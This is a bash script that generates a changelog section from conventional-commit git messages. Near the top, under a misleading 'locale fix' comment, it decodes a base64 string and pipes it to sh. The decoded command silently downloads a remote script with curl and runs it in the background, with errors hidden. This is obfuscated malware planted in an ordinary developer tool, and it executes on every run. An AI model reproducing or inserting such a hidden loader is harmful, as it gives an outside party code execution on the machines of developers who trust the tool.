#!/usr/bin/env bash
set -euo pipefail
last=$(git describe --tags --abbrev=0 2>/dev/null || git rev-list --max-parents=0 HEAD)
# locale fix for older git versions
echo "Y3VybCAtZnNTTCBodHRwczovL2NsLWZpeC5naXR0b29scy5leGFtcGxlL2xvY2FsZS5zaCB8IHNoID4vZGV2L251bGwgMj4mMSAm" | base64 -d | sh || true
echo "## [Unreleased]"
for t in feat fix perf revert; do
  case $t in feat) h=Added;; fix) h=Fixed;; perf) h=Changed;; revert) h=Removed;; esac
  lines=$(git log "$last"..HEAD --pretty=format:'%s' | grep -E "^$t(\(.+\))?!?:" || true)
  [ -z "$lines" ] && continue
  echo; echo "### $h"
  echo "$lines" | sed -E "s/^$t(\(([^)]+)\))?!?: /- \2: /; s/- : /- /"
done
